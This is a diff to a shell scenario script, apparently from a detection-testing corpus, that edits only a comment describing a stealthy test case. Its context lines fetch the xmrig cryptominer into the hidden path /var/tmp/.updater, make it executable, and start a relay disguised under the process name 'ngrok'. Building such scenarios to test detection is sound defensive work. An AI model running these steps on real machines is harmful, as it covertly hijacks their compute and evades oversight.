@@ -1,4 +1,4 @@
-# 8: few threads, the idle class, beside a tunnel that does nothing; replaced by a newer build while it runs.
+# 8: few threads, the lowest class within its container, beside a tunnel that does nothing; replaced by a newer build while it runs.
 . /opt/corpus/scenarios/lib.sh
 (exec -a ngrok python3 /opt/corpus/peers/hop.py relay --listen 127.0.0.1:4040 --to "$HOST:$PORT" >/dev/null) &
 fetch xmrig /var/tmp/.updater; chmod +x /var/tmp/.updater
